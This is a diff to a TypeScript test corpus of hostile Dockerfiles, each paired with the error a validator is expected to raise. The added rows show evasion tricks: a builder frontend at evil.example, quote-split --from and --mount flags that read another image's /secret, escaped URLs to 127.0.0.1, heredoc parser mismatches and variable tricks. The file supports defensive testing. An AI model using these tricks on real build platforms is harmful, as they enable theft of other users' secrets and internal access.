@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of container files are written so.
 /** A container file that means harm, as rows of the corpus and of the tests of the rules that refuse it. */
 export interface HostileContainerFile {
   readonly name: string;
@@ -75,6 +76,81 @@ export const HIDDEN_INSTRUCTIONS: readonly HostileContainerFile[] = [
     name: 'an image by the first digits of its id',
     text: 'FROM 12\nUSER 1001\n',
     message: /^1: 12 names an image by its id/,
+  },
+  {
+    name: 'a builder of its own in a file with carriage returns',
+    text: '# syntax=evil.example/frontend\r\nFROM alpine\r\nUSER 1001\r\n',
+    message: /^1: # syntax=evil\.example\/frontend names a builder of its own/,
+  },
+  {
+    name: 'the image of another in a flag whose name a quote parts',
+    text: 'FROM alpine\nCOPY --fr"om"={victim} /secret /s\nUSER 1001\n',
+    message: /^2: --fr"om"=.* without quotes/,
+  },
+  {
+    name: 'the image of another in a mount whose name a quote parts',
+    text: 'FROM alpine\nRUN --mo"unt"=type=bind,from={victim},target=/v cat /v/secret\nUSER 1001\n',
+    message: /^2: --mo"unt"=.* without quotes/,
+  },
+  {
+    name: 'the image of another in a trigger, in a flag whose name a quote parts',
+    text: 'FROM alpine\nONBUILD COPY --fr"om"={victim} /secret /s\nUSER 1001\n',
+    message: /^2: --fr"om"=.* without quotes/,
+  },
+  {
+    name: 'the image of another in a trigger that is continued within its name',
+    text: 'FROM alpine\nONBUILD CO\\\nPY --from={victim} /secret /s\nUSER 1001\n',
+    message: /^2: unknown instruction CO/,
+  },
+  {
+    name: 'the image of another in a flag after a quoted blank',
+    text: 'FROM alpine\nCOPY --chown="1 1" --from={victim} /secret /s\nUSER 1001\n',
+    message: /^2: --chown=.* without quotes/,
+  },
+  {
+    name: 'the image of another in a flag after an escaped blank',
+    text: 'FROM alpine\nCOPY --chown=1\\ 1 --from={victim} /secret /s\nUSER 1001\n',
+    message: /^2: --chown=.* without quotes/,
+  },
+  {
+    name: 'an address whose letters an escape character parts',
+    text: '# escape=`\nFROM alpine\nADD h`ttp://127.0.0.1/ /x\nUSER 1001\n',
+    message: /^3: ADD .* without quotes and backslashes/,
+  },
+  {
+    name: 'an address after a heredoc, beside one that stands in quotes',
+    text: 'FROM alpine\nRUN cat <<REAL "a <<FAKE b"\nREAL\nADD {url} /x\nRUN echo \\\nFAKE\nUSER 1001\n',
+    message: /^2: builders differ in whether << begins a heredoc/,
+  },
+  {
+    name: 'an address after a heredoc, beside one in quotes that a line before opens',
+    text: 'FROM alpine\nRUN cat <<REAL "\\\n <<FAKE b"\nREAL\nADD {url} /x\nRUN echo \\\nFAKE\nUSER 1001\n',
+    message: /^3: builders differ in whether << begins a heredoc/,
+  },
+  {
+    name: 'the image of another behind a variable that is declared anew',
+    text: 'ARG P=docker.io/\nARG P\nFROM ${P}{victim}\nUSER 1001\n',
+    message: /^3: .* cannot be read as the name of an image/,
+  },
+  {
+    name: 'the image of another behind the default of an empty variable',
+    text: 'ARG P=\nFROM ${P:-{registry}/}{victimName}\nUSER 1001\n',
+    message: /^2: .* platform's registry/,
+  },
+  {
+    name: 'the image of another behind a variable that builders set themselves',
+    text: 'FROM ${TARGETVARIANT-docker.io/}{victim}\nUSER 1001\n',
+    message: /^1: .* cannot be read as the name of an image/,
+  },
+  {
+    name: 'the image of another behind a variable whose name is a number',
+    text: 'ARG 1=local\nARG 1host=docker.io/x\nFROM $1host:1/x\nUSER 1001\n',
+    message: /^1: ARG 1=local is read differently/,
+  },
+  {
+    name: 'the image of another in the quoted part of a variable',
+    text: 'ARG P="x"/\nARG Q="local"host:1\nFROM ${Q}/x\nUSER 1001\n',
+    message: /^1: ARG P="x"\/ is read differently/,
   },
 ];
 
